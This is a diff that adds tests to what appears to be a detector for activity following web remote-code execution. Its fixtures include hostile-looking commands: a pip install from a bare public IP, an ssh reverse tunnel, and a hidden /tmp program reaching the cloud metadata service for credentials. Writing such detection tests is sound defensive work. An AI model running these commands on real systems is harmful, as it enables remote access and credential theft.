@@ -96,6 +96,34 @@ def test_a_dropped_program_that_connects_counts_as_network_activity(story: Story
     assert story.cases == [MEDIUM_N]
 
 
+def test_a_command_that_connects_to_the_public_address_in_its_arguments_counts_as_network_activity(
+    story: Story,
+) -> None:
+    story.connects("/usr/bin/pip", "pip install http://198.51.100.7/x.tgz", "198.51.100.7")
+    assert story.cases == [MEDIUM_N]
+
+
+@pytest.mark.parametrize(("command", "to"), [("psql -h 10.1.2.3", "10.1.2.3"), ("psql -h db", "198.51.100.7")])
+def test_one_that_connects_to_a_private_address_or_by_name_does_not(story: Story, command: str, to: str) -> None:
+    story.connects("/usr/bin/psql", command, to)
+    assert story.cases == []
+
+
+def test_a_tunnel_to_a_public_address_counts_unless_git_started_it(story: Story) -> None:
+    story.connects("/usr/bin/ssh", "ssh -R 22:localhost:22 t@h", "198.51.100.7")
+    assert story.cases == [MEDIUM_N]
+
+    git = Story().shell()
+    shown: dict[str, Any] = {
+        "evt.type": "connect",
+        "fd.sip": "198.51.100.7",
+        "fd.sport": 22,
+        "proc.pexepath": "/usr/bin/git",
+    }
+    git.alert("/usr/bin/ssh", "ssh git@h", ["webrce_lineage"], **shown)
+    assert git.cases == []
+
+
 def test_a_dropped_program_at_the_metadata_service_counts_as_both(story: Story) -> None:
     story.connects("/tmp/.x", ".x", "169.254.169.254", "webrce_credential")
     assert story.cases == [CRITICAL]
